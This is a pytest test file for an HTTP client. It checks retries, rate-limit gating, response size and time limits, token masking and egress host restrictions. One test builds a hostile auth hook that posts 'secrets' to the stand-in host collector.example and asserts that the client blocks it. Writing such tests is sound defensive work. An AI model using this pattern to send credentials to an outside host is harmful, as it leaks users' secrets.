from __future__ import annotations

import gzip
import logging
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
import stamina
from django.db import transaction

from kvit.kernel.errors import (
    AuthExpired,
    Cancelled,
    Misconfigured,
    PluginError,
    RateLimited,
    RequestBudgetSpent,
    Temporary,
)
from kvit.plugin import Bearer, Gate, Secret
from kvit.sync.configuring import Values
from kvit.sync.connections import client_for
from kvit.sync.egress import Egress, Origin
from kvit.sync.http import HttpClient, raise_for_status
from kvit.sync.redaction import Redactor
from tests.sync.invented import Scripted

TOKEN = "tajny-token-7"


@dataclass
class Source:
    """A real HTTP server that does one after another what a test scripts; then it answers 200."""

    port: int = 0
    script: list[Callable[[BaseHTTPRequestHandler], None]] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def origin(self) -> Origin:
        return Origin("http", "127.0.0.1", self.port)

    def handle(self, handler: BaseHTTPRequestHandler) -> None:
        self.asked.append(f"{handler.command} {handler.path}")
        step = self.script.pop(0) if self.script else answer(200, b"[]")
        step(handler)


def answer(status: int, body: bytes = b"", **headers: str) -> Callable[[BaseHTTPRequestHandler], None]:
    def write(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            handler.send_header(name.replace("_", "-"), value)
        handler.end_headers()
        handler.wfile.write(body)

    return write


def cut(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b"[1, 2")
    handler.close_connection = True


def hang_up(handler: BaseHTTPRequestHandler) -> None:
    handler.connection.shutdown(socket.SHUT_RDWR)


def drip(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()
    for _ in range(200):
        handler.wfile.write(b".")
        handler.wfile.flush()
        time.sleep(0.02)


damaged = answer(200, gzip.compress(b"[]")[:-9] + b"123456789", Content_Encoding="gzip")


@pytest.fixture
def source() -> Iterator[Source]:
    source = Source()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            source.handle(self)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            source.handle(self)

        def do_CONNECT(self) -> None:
            source.script = [answer(502)]
            source.handle(self)

        def log_message(self, format: str, *args: Any) -> None:
            return

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, request: Any, client_address: Any) -> None:
            return

    server = Server(("127.0.0.1", 0), Handler)
    source.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield source
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def no_pauses() -> Iterator[None]:
    """Try as often as in life, without the pauses between."""
    with stamina.set_testing(True, attempts=100, cap=True):
        yield


@dataclass
class Gatekeeper:
    """A gate of this process that tells what happened at it; the first `losses` turns go to somebody else."""

    losses: int = 0
    happened: list[str] = field(default_factory=list)

    def turn(self, gate: Gate) -> Gatekeeper:
        return self

    def wait(self) -> None:
        self.happened.append("wait")

    def take(self) -> bool:
        self.losses -= 1
        self.happened.append("take" if self.losses < 0 else "lose")
        return self.losses < 0

    def end(self) -> None:
        self.happened.append("end")


GATE = Gate(key=Secret(TOKEN), seconds=1)


@contextmanager
def asking(source: Source, **options: Any) -> Iterator[HttpClient]:
    defaults: dict[str, Any] = {
        "redactor": Redactor([Secret(TOKEN)]),
        "egress": Egress(entered=frozenset({source.origin})),
        "turnstile": Gatekeeper(),
        "before_request": lambda: None,
    }
    http = HttpClient(**(defaults | options))
    try:
        yield http
    finally:
        http.close()


# Another try


@pytest.mark.parametrize(
    "fault", [answer(502), answer(503), answer(504), cut, hang_up, damaged], ids=lambda fault: fault.__name__
)
def test_what_may_pass_is_tried_three_times(
    source: Source, fault: Callable[[BaseHTTPRequestHandler], None]
) -> None:
    source.script = [fault, fault, answer(200, b"[1]")]
    with asking(source) as http:
        assert http.get(f"{source.url}/list").content == b"[1]"
    assert len(source.asked) == 3


def test_a_source_that_hangs_up_for_good_is_temporary(source: Source) -> None:
    source.script = [hang_up] * 9
    with asking(source) as http, pytest.raises(Temporary, match=r"127\.0\.0\.1 was cut off"):
        http.get(f"{source.url}/{TOKEN}/list")
    assert len(source.asked) == 3


def test_the_last_answer_of_a_source_that_stays_away_is_given_to_the_plugin(source: Source) -> None:
    source.script = [answer(502), answer(503), answer(504, b"later")]
    with asking(source) as http:
        assert http.request("GET", source.url).status_code == 504
    assert len(source.asked) == 3


@pytest.mark.parametrize("status", [303, 400, 401, 404, 409, 413, 422, 429, 500, 501])
def test_other_answers_are_the_plugins_business(source: Source, status: int) -> None:
    source.script = [answer(status)]
    with asking(source) as http:
        assert http.request("GET", source.url).status_code == status
    assert len(source.asked) == 1


def test_a_source_that_says_when_to_come_again_is_not_asked_sooner(source: Source) -> None:
    source.script = [answer(503, Retry_After="120")]
    with asking(source) as http, pytest.raises(RateLimited) as caught:
        http.get(source.url)
    assert caught.value.retry_after == timedelta(seconds=120)
    assert len(source.asked) == 1


@pytest.mark.parametrize("fault", [answer(503), hang_up])
def test_what_may_have_changed_something_is_not_sent_twice(
    source: Source, fault: Callable[[BaseHTTPRequestHandler], None]
) -> None:
    source.script = [fault]
    with asking(source) as http, suppress(Temporary):
        assert http.request("POST", source.url, content=b"{}").status_code == 503
    assert len(source.asked) == 1


def test_a_check_tries_once(source: Source) -> None:
    source.script = [hang_up]
    with asking(source, tries=1) as http, pytest.raises(Temporary):
        http.get(source.url)
    assert len(source.asked) == 1


def test_a_run_that_is_cancelled_between_two_tries_asks_no_more(source: Source) -> None:
    source.script = [hang_up] * 3

    def go_on() -> None:
        if source.asked:
            raise Cancelled(who="owner")

    with asking(source, before_request=go_on) as http, pytest.raises(Cancelled):
        http.get(source.url)
    assert len(source.asked) == 1


def test_pauses_between_tries_are_random_and_short(source: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    stamina.set_testing(False)
    pauses: list[float] = []
    monkeypatch.setattr("tenacity.nap.time.sleep", pauses.append)
    for _ in range(12):
        source.script = [hang_up, hang_up]
        with asking(source) as http:
            http.get(source.url)
    assert len(set(pauses)) == 24
    assert min(pauses) < 1 < 3 < max(pauses) <= 4


# Errors of answers


@pytest.mark.parametrize(
    ("status", "error"),
    [
        (401, AuthExpired),
        (403, AuthExpired),
        (429, RateLimited),
        (500, Temporary),
        (503, Temporary),
        (404, Misconfigured),
        (302, Misconfigured),
    ],
)
def test_an_answer_that_is_no_success_says_what_to_do(status: int, error: type[PluginError]) -> None:
    response = httpx.Response(status, request=httpx.Request("GET", f"https://bank.example/{TOKEN}"))
    with pytest.raises(error) as caught:
        raise_for_status(response)
    assert TOKEN not in str(caught.value)


@pytest.mark.parametrize(
    ("header", "seconds"),
    [
        ("90", 90),
        ("0", 0),
        ("-5", 60),
        ("soon", 60),
        ("", 60),
        ("99999999999999999999", 86400),
        ("Mon, 01 Jan 2001 00:00:00 GMT", 0),
    ],
)
def test_retry_after_is_understood(header: str, seconds: int) -> None:
    response = httpx.Response(429, headers={"Retry-After": header})
    with pytest.raises(RateLimited) as caught:
        raise_for_status(response)
    assert caught.value.retry_after == timedelta(seconds=seconds)


def test_retry_after_may_be_a_date() -> None:
    moment = format_datetime(datetime.now(UTC) + timedelta(minutes=5), usegmt=True)
    with pytest.raises(RateLimited) as caught:
        raise_for_status(httpx.Response(429, headers={"Retry-After": moment}))
    assert isinstance(caught.value.retry_after, timedelta)
    assert 295 < caught.value.retry_after.total_seconds() <= 300


def test_redirects_are_not_followed(source: Source) -> None:
    source.script = [answer(302, Location=f"{source.url}/elsewhere")]
    with asking(source) as http:
        assert http.request("GET", source.url).headers["Location"] == f"{source.url}/elsewhere"
    assert source.asked == ["GET /"]


@pytest.mark.parametrize(
    "url", ["ftp://bank.example/", "bank.example", "http://", "http://[::1", "https://x:y/"]
)
def test_what_is_no_web_address_is_refused(source: Source, url: str) -> None:
    with asking(source) as http, pytest.raises(Misconfigured):
        http.get(url)


# Limits


def test_an_answer_without_end_is_not_read(source: Source) -> None:
    source.script = [answer(200, b"x" * 2000)]
    with asking(source, largest_answer_bytes=1000) as http, pytest.raises(Temporary, match="too large"):
        http.get(source.url)
    assert len(source.asked) == 1


def test_a_small_body_that_unpacks_to_too_much_is_not_read(source: Source) -> None:
    source.script = [answer(200, gzip.compress(b"0" * 2_000_000), Content_Encoding="gzip")]
    with asking(source, largest_answer_bytes=1_000_000) as http, pytest.raises(Temporary, match="too large"):
        http.get(source.url)


def test_an_answer_that_drips_for_ever_is_given_up(source: Source) -> None:
    source.script = [drip]
    with asking(source, whole_answer_seconds=0.3) as http, pytest.raises(Temporary, match="too long"):
        http.get(source.url)
    assert len(source.asked) == 1


def test_the_budget_counts_every_try(source: Source) -> None:
    source.script = [answer(200), answer(502), answer(200), answer(200)]
    with asking(source, max_requests=4) as http:
        for _ in range(3):
            http.get(source.url)
        with pytest.raises(RequestBudgetSpent, match="more than 4 times"):
            http.get(source.url)
    assert len(source.asked) == 4


# The gate


def test_each_try_has_its_own_turn(source: Source) -> None:
    source.script = [hang_up]
    gate = Gatekeeper()
    with asking(source, turnstile=gate) as http:
        http.get(source.url, gate=GATE)
    assert gate.happened == ["wait", "take", "end"] * 2


def test_a_lost_turn_is_waited_for_again_and_costs_nothing(source: Source) -> None:
    gate = Gatekeeper(losses=2)
    with asking(source, turnstile=gate, max_requests=1) as http:
        http.get(source.url, gate=GATE)
    assert gate.happened == ["wait", "lose", "wait", "lose", "wait", "take", "end"]
    assert len(source.asked) == 1


def test_no_turn_is_used_where_no_connection_can_be_made() -> None:
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        nobody = Source(port=unused.getsockname()[1])
        gate = Gatekeeper()
        with asking(nobody, turnstile=gate) as http, pytest.raises(Temporary, match="cannot be reached"):
            http.get(nobody.url, gate=GATE)
    assert "take" not in gate.happened


def test_the_turn_is_taken_after_everything_that_may_be_slow(source: Source) -> None:
    gate = Gatekeeper()

    def go_on() -> None:
        gate.happened.append("hook")

    with asking(source, turnstile=gate, before_request=go_on) as http:
        http.get(source.url, gate=GATE)
    assert gate.happened[:4] == ["hook", "wait", "hook", "take"]


def test_a_proxy_does_not_lead_around_the_gate(source: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    """The source plays the proxy: it gets the whole URL."""
    monkeypatch.setenv("http_proxy", source.url)
    monkeypatch.setenv("no_proxy", "")
    gate = Gatekeeper(losses=1)
    egress = Egress(entered=frozenset({Origin("http", "bank.example", 80)}))
    with asking(source, turnstile=gate, egress=egress) as http:
        http.get("http://bank.example/list", gate=GATE)
    assert source.asked == ["GET http://bank.example/list"]
    assert gate.happened == ["wait", "lose", "wait", "take", "end"]


def test_a_tunnel_through_a_proxy_uses_no_turn(source: Source, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("https_proxy", source.url)
    monkeypatch.setenv("no_proxy", "")
    gate = Gatekeeper()
    options: dict[str, Any] = {"turnstile": gate, "egress": Egress(("bank.example",)), "tries": 1}
    with asking(source, **options) as http, pytest.raises(Temporary):
        http.get("https://bank.example/list", gate=GATE)
    assert source.asked == ["CONNECT bank.example:443"]
    assert gate.happened == ["wait", "end"]


def test_a_gate_without_an_interval_is_no_gate(source: Source) -> None:
    gate = Gatekeeper()
    with asking(source, turnstile=gate) as http:
        http.get(source.url, gate=Gate(key=Secret(TOKEN), seconds=0))
    assert gate.happened == []


def test_the_run_waits_from_before_the_gate_until_the_answer_is_kept(source: Source) -> None:
    gate = Gatekeeper()

    @contextmanager
    def waiting() -> Iterator[None]:
        gate.happened.append("begin")
        yield
        gate.happened.append("stop")

    class Keeping:
        def keep(self, request: httpx.Request, response: httpx.Response) -> None:
            gate.happened.append(f"keep {response.status_code}")

    source.script = [answer(502)]
    with asking(source, turnstile=gate, waiting=waiting, recorder=Keeping()) as http:
        http.get(source.url, gate=GATE)
    tries = ["wait", "take", "end"] * 2
    assert gate.happened == ["begin", *tries, "keep 200", "stop"]


def test_the_network_is_never_used_without_a_turnstile(source: Source) -> None:
    with pytest.raises(ValueError, match="turnstile"):
        HttpClient(redactor=Redactor(), egress=Egress(), turnstile=None, before_request=lambda: None)


# Secrets, hosts and transactions


def test_the_log_masks_the_token(source: Source, caplog: pytest.LogCaptureFixture) -> None:
    source.script = [answer(502), hang_up]
    with caplog.at_level(logging.INFO), asking(source) as http:
        http.get(f"{source.url}/{TOKEN}/list", auth=Bearer(Secret(TOKEN)))
    assert "/***/list" in caplog.text
    assert TOKEN not in caplog.text


def test_an_auth_cannot_reach_other_hosts(source: Source) -> None:
    class Wandering(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Iterator[httpx.Request]:  # type: ignore[override]  # as Bearer does
            yield httpx.Request("POST", "https://collector.example/", content=b"secrets")
            yield request

    with asking(source) as http, pytest.raises(Misconfigured, match=r"collector\.example"):
        http.get(source.url, auth=Wandering())
    assert source.asked == []


def test_names_are_checked_on_any_transport() -> None:
    asked: list[httpx.Request] = []

    def reply(request: httpx.Request) -> httpx.Response:
        asked.append(request)
        return httpx.Response(200, json=[])

    transport = httpx.MockTransport(reply)
    options: dict[str, Any] = {"egress": Egress(("bank.example",)), "transport": transport, "turnstile": None}
    with asking(Source(), **options) as http:
        assert http.get("https://bank.example/list").json() == []
        with pytest.raises(Misconfigured, match=r"other\.example"):
            http.get("https://other.example/list")
    assert len(asked) == 1


def test_a_header_that_is_no_ascii_is_kept_as_it_came() -> None:
    transport = httpx.MockTransport(lambda request: httpx.Response(200, headers=[(b"X-Bank", b"P\xc5\x99")]))
    options: dict[str, Any] = {"egress": Egress(("bank.example",)), "transport": transport, "turnstile": None}
    with asking(Source(), **options) as http:
        assert http.get("https://bank.example/").headers.raw == [(b"X-Bank", b"P\xc5\x99")]


@pytest.mark.django_db(transaction=True)
def test_the_client_refuses_to_work_in_a_transaction(source: Source) -> None:
    values = Values({"base_url": source.url}, {"token": Secret(TOKEN)})
    with client_for(Scripted, values, turnstile=Gatekeeper()) as http:
        assert http.get(source.url).status_code == 200
        with transaction.atomic(), pytest.raises(RuntimeError, match="inside a database transaction"):
            http.get(source.url)
    assert len(source.asked) == 1
